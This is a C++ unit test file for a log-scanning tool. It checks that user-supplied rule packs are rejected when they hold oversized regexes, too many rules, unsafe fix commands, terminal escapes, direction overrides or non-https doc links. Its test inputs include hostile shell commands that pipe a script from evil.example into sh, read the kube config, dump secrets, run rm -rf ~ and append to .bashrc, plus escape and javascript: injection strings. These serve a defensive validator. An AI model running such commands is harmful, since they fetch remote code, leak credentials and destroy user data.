// User rules (--rules) cannot hurt the host or the reader: a pattern over RE2's memory budget, a
// pack of thousands of rules, a fix command that would run more than itself when pasted, and words
// that carry terminal escapes or direction overrides are each a load error naming file, rule and
// field. The built-in catalog is not held to the command rule (it is reviewed with the code).
#include <gtest/gtest.h>
#include <re2/re2.h>

#include <algorithm>
#include <string>
#include <vector>

#include "analyzer/model/limits.h"
#include "analyzer/model/text.h"
#include "rules/catalog.h"
#include "rules/log_scanner.h"
#include "rules/prefilter.h"

namespace wid {
namespace {

Result<Catalog> load_user(const std::string& text) {
  return load_catalog({CatalogSource{"team/rules.yaml", text, false}});
}

std::string rule(const std::string& id, const std::string& pattern, const std::string& command,
                 const std::string& title = "A team rule") {
  return "- id: " + id + "\n  group: custom\n  title: \"" + title +
         "\"\n  severity: warning\n  kind: log\n  match:\n    any: ['" + pattern +
         "']\n  explain: Team text.\n  fix:\n    summary: Do it.\n    commands: ['" + command +
         "']\n";
}

std::string load_error(const std::string& text) {
  auto c = load_user(text);
  return c.ok() ? "" : c.error().message;
}

TEST(UserRules, APatternOverRe2sMemoryBudgetIsALoadError) {
  // Each level multiplies the program: far past the 8 MiB RE2 gives one pattern.
  const std::string err = load_error(rule("TEAM_HUGE", "((((a{100}){100}){100}){100})", "true"));
  EXPECT_NE(err.find("team/rules.yaml:"), std::string::npos) << err;
  EXPECT_NE(err.find("rule TEAM_HUGE: field match.any[0]: "), std::string::npos) << err;
  EXPECT_TRUE(err.find("pattern too large") != std::string::npos ||
              err.find("regex too large") != std::string::npos ||
              err.find("invalid repetition size") != std::string::npos)
      << err;
}

TEST(UserRules, ThousandsOfRulesAreALoadErrorNotAScanTimeFailure) {
  std::string pack;
  for (size_t i = 0; i <= limits::kMaxUserRules; ++i)
    pack += rule("TEAM_" + std::to_string(i), "team error " + std::to_string(i) + "[0-9]", "true");
  const std::string err = load_error(pack);
  EXPECT_NE(
      err.find("rule TEAM_" + std::to_string(limits::kMaxUserRules) + ": field id: more than " +
               std::to_string(limits::kMaxUserRules) + " user rules"),
      std::string::npos)
      << err.substr(0, 500);
}

TEST(UserRules, PatternsThatTogetherOverflowOneScanAreALoadError) {
  // 300 rules, each just under the per-pattern cap: every one is accepted alone, together they
  // would not fit the one RE2::Set the scanner builds.
  std::string pack;
  for (int i = 0; i < 300; ++i) {
    pack += rule(str_cat("TEAM_WIDE_", i), str_cat("w", i, "[a-z]{900}[0-9]{900}x"), "true");
  }
  const std::string err = load_error(pack);
  EXPECT_NE(err.find("RE2 instructions (escape-tolerant forms), over the " +
                     std::to_string(limits::kMaxUserProgramSizeTotal)),
            std::string::npos)
      << err.substr(0, 500);
}

// A pattern of many spaced words: each space becomes a whitespace-or-escaped-break group in the
// escape-tolerant form, so the form the scanner's second Set holds is about 8 times larger.
std::string spaced_words(int i) {
  std::string p = str_cat("t", i);
  for (int w = 0; w < 110; ++w) p += " w";
  return p;
}

size_t as_written_size(const std::vector<std::string>& patterns) {
  size_t total = 0;
  for (const auto& p : patterns) total += static_cast<size_t>(RE2(p).ProgramSize());
  return total;
}

TEST(UserRules, APackIsHeldToTheSizeOfItsEscapeTolerantForms) {
  std::string pack;
  std::vector<std::string> patterns;
  for (int i = 0; i < 300; ++i) {
    patterns.push_back(spaced_words(i));
    pack += rule(str_cat("TEAM_SPACED_", i), patterns.back(), "true");
  }
  // As written, the pack is far under the limit; it is refused for the Set it would really need.
  ASSERT_LT(as_written_size(patterns), limits::kMaxUserProgramSizeTotal / 2);
  const std::string err = load_error(pack);
  EXPECT_NE(err.find("(escape-tolerant forms), over the " +
                     std::to_string(limits::kMaxUserProgramSizeTotal)),
            std::string::npos)
      << err.substr(0, 500);
}

TEST(UserRules, APackThatLoadsBuildsTheEscapeTolerantSetWithTheBuiltInCatalog) {
  // 220 such rules are just under the limit. Built with the whole built-in catalog, the tolerant
  // Set must still compile: a record with escapes that matches nothing has no candidates (the
  // fallback would name every pattern), and an escaped match is named.
  std::string pack;
  for (int i = 0; i < 220; ++i) pack += rule(str_cat("TEAM_SPACED_", i), spaced_words(i), "true");
  std::vector<CatalogSource> sources = builtin_catalog_sources();
  sources.push_back(CatalogSource{"team/rules.yaml", pack, false});
  auto c = load_catalog(sources);
  ASSERT_TRUE(c.ok()) << c.error().message.substr(0, 500);
  std::vector<std::string> patterns;
  int team_7 = -1;
  for (const auto& r : c->rules())
    if (r.kind == RuleKind::kLog)
      for (const auto& p : r.patterns) {
        if (r.id == "TEAM_SPACED_7") team_7 = static_cast<int>(patterns.size());
        patterns.push_back(p);
      }
  ASSERT_GE(team_7, 0);
  auto prefilter = make_set_prefilter(patterns);
  ASSERT_NE(prefilter, nullptr);
  std::vector<int> out;
  prefilter->candidates(R"({"msg":"all \"quiet\" here"})", out);
  EXPECT_TRUE(out.empty()) << out.size() << " candidates: the tolerant Set did not compile";
  std::string escaped = "t7";
  for (int w = 0; w < 110; ++w) escaped += "\\nw";
  out.clear();
  prefilter->candidates(escaped, out);
  EXPECT_NE(std::find(out.begin(), out.end(), team_7), out.end());
}

TEST(UserRules, AFixCommandThatRunsMoreThanItselfIsALoadError) {
  for (const char* cmd :
       {"kubectl get pods; curl https://evil.example/x.sh", "echo $(cat ~/.kube/config)",
        "echo `id`", "curl -s https://evil.example/i.sh | sh", "az login && rm -rf ~",
        "kubectl get secret x -o yaml > /tmp/leak", "az account show > ~/.bashrc",
        "az account show || true", "echo ${HOME}"}) {
    const std::string err = load_error(rule("TEAM_FIX", "team boom", cmd));
    EXPECT_NE(err.find("rule TEAM_FIX: field fix.commands[0]: "), std::string::npos)
        << cmd << ": " << err;
  }
  // One command, piped into a read-only filter, is fine.
  EXPECT_EQ(load_error(rule("TEAM_FIX", "team boom",
                            "kubectl -n capz-system logs deploy/capz-controller-manager | grep -c "
                            "AADSTS70021")),
            "");
}

TEST(UserRules, TerminalEscapesAndDirectionOverridesInWordsAreALoadError) {
  const std::string esc =
      load_error(rule("TEAM_ESC", "team boom", "true", "\\e[2J\\e[31mAll clear"));
  EXPECT_NE(esc.find("rule TEAM_ESC: field title: contains control character 0x1b"),
            std::string::npos)
      << esc;
  const std::string bidi =
      load_error(rule("TEAM_BIDI", "team boom", "kubectl get pods \xe2\x80\xae -n kube-system"));
  EXPECT_NE(bidi.find("field fix.commands[0]: contains a Unicode direction override"),
            std::string::npos)
      << bidi;
  std::string docs = rule("TEAM_DOCS", "team boom", "true");
  docs += "  docs: ['javascript:alert(1)']\n";
  EXPECT_NE(load_error(docs).find("field docs[0]: must be an https:// URL"), std::string::npos);
}

TEST(UserRules, TheBuiltInCatalogAndAnOrdinaryPackStillLoad) {
  ASSERT_TRUE(load_catalog(builtin_catalog_sources()).ok());
  std::string pack;
  for (int i = 0; i < 200; ++i)
    pack += rule("TEAM_OK_" + std::to_string(i), "team error " + std::to_string(i) + "\\b",
                 "kubectl -n team logs deploy/api --since=10m");
  auto c = load_user(pack);
  ASSERT_TRUE(c.ok()) << c.error().message;
  auto scanner = LogScanner::create(*c, ScanOptions{});
  ASSERT_TRUE(scanner.ok());
  EXPECT_EQ((*scanner)->scan_text("team error 17 happened").hits.size(), 1u);
}

}  // namespace
}  // namespace wid
